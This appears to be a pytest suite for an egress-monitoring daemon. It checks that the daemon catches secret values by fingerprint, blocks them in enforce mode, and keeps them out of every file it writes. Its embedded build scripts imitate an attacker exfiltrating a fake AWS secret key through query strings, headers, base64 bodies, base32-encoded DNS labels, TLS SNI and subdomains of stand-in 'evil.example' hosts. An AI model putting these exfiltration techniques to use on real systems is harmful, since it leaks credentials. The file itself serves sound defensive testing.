"""Secret values by fingerprint, and no value of a build's in any file the daemon writes.

The build is the attacker: it knows the daemon looks for variable *names*, so it sends the
value of ``AWS_SECRET_ACCESS_KEY`` alone, in a query, a header, as base64, as a bare body, in a
POST's query, and hides values in every field a record can carry.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests.kernel.netlab import REPO, DaemonHandle, TestHost, env_with_cargo

SECRET = "wJalrXUtnFEMIK7MDENGbPxRfiCYzEXAMPLEfake"  # a made-up value in AWS's format
CANARY = "Zq7Xc4Vb1Nm8Lk2Jh5Gf3Ds6Ap9Qw0Er"  # the value of a secret variable
OTHER = "Tn4Rb8Wm2Yc6Ux0Pz3Ke7Hs1Dj5Gv9Fa"  # a value the daemon cannot know

FIVE_CASES = r"""
import base64, socket, sys
host, secret = sys.argv[1], sys.argv[2]
cases = [
    ("query", f"GET /c1?t={secret} HTTP/1.1\r\nHost: a.example\r\n\r\n"),
    ("header", f"GET /c2 HTTP/1.1\r\nHost: a.example\r\nX-Data: {secret}\r\n\r\n"),
    ("base64", "GET /c3?d=" + base64.b64encode(b"k=" + secret.encode()).decode()
     + " HTTP/1.1\r\nHost: a.example\r\n\r\n"),
    ("body", f"POST /c4 HTTP/1.1\r\nHost: a.example\r\nContent-Length: {len(secret)}\r\n\r\n"
     + secret),
    ("post-query", f"POST /c5?t={secret} HTTP/1.1\r\nHost: a.example\r\nContent-Length: 3"
     "\r\n\r\nx=1"),
]
for name, request in cases:
    try:
        with socket.create_connection((host, 8080), timeout=5) as s:
            s.sendall(request.encode())
            print(name, "answered" if s.recv(100) else "cut off", flush=True)
    except OSError:
        print(name, "cut off", flush=True)
"""


def allow_test_host(host: TestHost, mode: str) -> str:
    return (f"version: 1\nmode: {mode}\ngroups:\n  host: {{cidrs: ['{host.v4}/32'], "
            "ports: [8080, 5353]}\nrules:\n"
            "  - {id: test-host, role: other, to: [host], action: allow}\n")


@pytest.mark.parametrize("mode", ["audit", "enforce"])
def test_a_secret_value_is_found_in_each_of_the_five_measured_places(
        daemon: DaemonHandle, test_host: TestHost, mode: str) -> None:
    daemon.restart(policy=allow_test_host(test_host, mode))
    env = {**env_with_cargo(), "AWS_SECRET_ACCESS_KEY": SECRET}
    out = subprocess.run(daemon.exec_argv(sys.executable, "-c", FIVE_CASES, test_host.v4,
                                          SECRET), env=env, capture_output=True, text=True,
                         timeout=60, check=True).stdout.split("\n")
    daemon.wait_event("build_end", lambda e: e["type"] == "build_end")
    alerts = [e for e in daemon.events("alert") if e["kind"] == "secret_value"]
    assert [a["evidence"]["path"] for a in alerts] == ["/c1", "/c2", "/c3", "/c4", "/c5"]
    for alert in alerts:
        assert alert["evidence"]["secret_names"] == ["AWS_SECRET_ACCESS_KEY"], alert
        assert alert["blocked"] is (mode == "enforce") and alert["severity"] == "critical"
        assert alert["role"] == "other" and alert["evidence"]["dst"]["ip"] == test_host.v4
    assert alerts[2]["evidence"]["encodings"] == ["base64"]
    assert alerts[0]["evidence"]["query_names"] == ["t"]
    assert alerts[1]["evidence"]["headers"] == ["host", "x-data"]
    received = [r["path"].partition("?")[0] for r in test_host.requests()]
    if mode == "enforce":
        assert received == [] and out[:5] == [f"{c} cut off" for c in
                                              ("query", "header", "base64", "body",
                                               "post-query")]
    else:
        assert received == ["/c1", "/c2", "/c3", "/c4", "/c5"]
        posts = [a for a in daemon.events("alert") if a["kind"] == "http_post"]
        assert [p["evidence"]["secret_names"] for p in posts] == [["AWS_SECRET_ACCESS_KEY"]] * 2
    assert daemon.stop() == 0
    for path in written_files(daemon):
        assert SECRET.lower() not in path.read_text(errors="replace").lower(), path


CANARY_BUILD = r"""
import base64, os, socket, ssl, struct, sys
host, other = sys.argv[1], open(sys.argv[2]).read().strip()
canary = os.environ["AWS_SECRET_ACCESS_KEY"]
def send(data):
    try:
        with socket.create_connection((host, 8080), timeout=5) as s:
            s.sendall(data)
            s.recv(100)
    except OSError:
        pass
send((f"GET /c/{canary}?t={canary}&o={other}#{canary} HTTP/1.1\r\n"
      f"Host: {canary.lower()}.evil.example\r\nAuthorization: Bearer {other}\r\n"
      f"X-Canary: {canary}\r\n\r\n").encode())
send((f"POST http://u:{other}@{canary.lower()}.evil.example/p?o={other} HTTP/1.1\r\n"
      f"Host: x\r\nContent-Length: {len(other)}\r\n\r\n{other}").encode())
send(f"CONNECT {canary.lower()}.evil.example:443 HTTP/1.1\r\n\r\n".encode())
try:
    with socket.create_connection((host, 8080), timeout=5) as raw:
        ssl.create_default_context().wrap_socket(
            raw, server_hostname=f"{canary.lower()}.evil.example")
except (OSError, ssl.SSLError):
    pass
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(3)
u.sendto(f"{canary}:{other}".encode(), (host, 5353))
try:
    u.recv(100)
except OSError:
    pass
query = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(
    bytes([len(p)]) + p for p in (canary.lower().encode(), b"evil", b"example")) + b"\0\0\1\0\1"
d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
d.settimeout(3)
d.sendto(query, (host, 53))
try:
    d.recv(512)
except OSError:
    pass
"""


def written_files(daemon: DaemonHandle) -> list[Path]:
    """Every file the daemon wrote for this test: events, its log, its runtime directory."""
    files = [daemon.events_path, daemon.log_path]
    files += [p for p in daemon.runtime_dir.rglob("*") if p.is_file()]
    files += [p for p in Path("/run/egress-monitor").rglob("*") if p.is_file()]
    return files


@pytest.mark.parametrize("mode", ["audit", "enforce"])
def test_canaries_in_every_field_a_build_controls_are_in_no_file_the_daemon_writes(
        daemon: DaemonHandle, test_host: TestHost, tmp_path: Path, mode: str) -> None:
    test_host.start_dns()
    daemon.restart("--dns-upstream", test_host.v4,
                   policy=f"version: 1\nmode: {mode}\n")
    # The program, its directory and its working directory are named by the canary, its
    # arguments carry both values in every shape, the unknown value is read from a file.
    home = tmp_path / CANARY
    home.mkdir()
    exe = home / f"py-{CANARY}"
    shutil.copy(Path(sys.executable).resolve(), exe)
    (home / "other").write_text(OTHER)
    script = home / "canary.py"
    script.write_text(CANARY_BUILD)
    env = {"PATH": "/usr/bin:/bin", "AWS_SECRET_ACCESS_KEY": CANARY, "HOME": str(home)}
    argv = [str(exe), str(script), test_host.v4, str(home / "other"), f"--token={OTHER}",
            f"AWS_SECRET_ACCESS_KEY={CANARY}", f"http://h.example/p?t={OTHER}", CANARY,
            OTHER, "-H", f"X-Api: {OTHER}"]
    subprocess.run(daemon.exec_argv(*argv), env={**env, "PYTHONPATH": str(REPO)}, cwd=home,
                   capture_output=True, timeout=90, check=True)
    daemon.wait_event("build_end", lambda e: e["type"] == "build_end")
    events = daemon.events()
    # The daemon did see them: the values were in what it read and judged.
    secret = [e for e in events if e["type"] == "alert" and CANARY_NAME in
              e["evidence"].get("secret_names", [])]
    assert secret, json.dumps(events, indent=1)
    assert any(e["type"] == "dns" for e in events)
    conns = [e for e in events if e["type"] == "connection" and e["process"]]
    assert conns and all(f"--token={'***'}" in e["process"]["argv"] for e in conns)
    status = subprocess.run([sys.executable, "-m", "egress_monitor.cli", "status",
                             "--runtime-dir", str(daemon.runtime_dir)], cwd=REPO,
                            capture_output=True, text=True, timeout=30).stdout
    metrics = daemon.metrics()
    assert daemon.stop() == 0
    texts = {str(p): p.read_text(errors="replace") for p in written_files(daemon)}
    texts |= {"status": status, "metrics": metrics}
    for where, text in texts.items():
        for value in (CANARY, OTHER):
            assert value.lower() not in text.lower(), (where, value)


CANARY_NAME = "AWS_SECRET_ACCESS_KEY"


DNS_QUERY = r"""
import base64, socket, struct, sys
host, secret = sys.argv[1], sys.argv[2]
encoded = base64.b32encode(b"x" + secret.encode()).decode().lower().rstrip("=")
labels = [encoded[i:i + 40] for i in range(0, len(encoded), 40)] + ["q", "test", "example"]
query = struct.pack("!HHHHHH", 9, 0x100, 1, 0, 0, 0) + b"".join(
    bytes([len(p)]) + p.encode() for p in labels) + b"\0\0\1\0\1"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
s.sendto(query, (host, 53))
print(s.recv(512)[3] & 0x0F)  # the rcode
"""


@pytest.mark.parametrize("mode", ["audit", "enforce"])
def test_a_secret_value_split_over_dns_labels_is_named_and_not_sent_in_enforce(
        daemon: DaemonHandle, test_host: TestHost, mode: str) -> None:
    dns_log = test_host.start_dns()
    daemon.restart("--dns-upstream", test_host.v4,
                   policy=f"version: 1\nmode: {mode}\nrules:\n  - {{id: zone, role: other, "
                   "to: [{hosts: ['*.test.example']}], action: allow}\n")
    env = {**env_with_cargo(), "AWS_SECRET_ACCESS_KEY": SECRET}
    rcode = subprocess.run(daemon.exec_argv(sys.executable, "-c", DNS_QUERY, test_host.v4,
                                            SECRET), env=env, capture_output=True, text=True,
                           timeout=60, check=True).stdout.strip()
    alert = daemon.wait_event("the secret_value alert", lambda e: e["type"] == "alert"
                              and e["kind"] == "secret_value")
    assert alert["evidence"]["secret_names"] == ["AWS_SECRET_ACCESS_KEY"]
    assert alert["evidence"]["encodings"] == ["base32"]
    assert alert["evidence"]["protocol"] == "dns"
    assert alert["blocked"] is (mode == "enforce")
    upstream_saw = ".q.test.example" in dns_log.read_text()
    # enforce: NXDOMAIN from the daemon, never forwarded; audit: forwarded, and the test
    # host's dnsmasq (which serves no such name) refuses it
    assert (rcode, upstream_saw) == (("3", False) if mode == "enforce" else ("5", True))
    assert daemon.stop() == 0
    for path in written_files(daemon):
        assert SECRET.lower() not in path.read_text(errors="replace").lower(), path
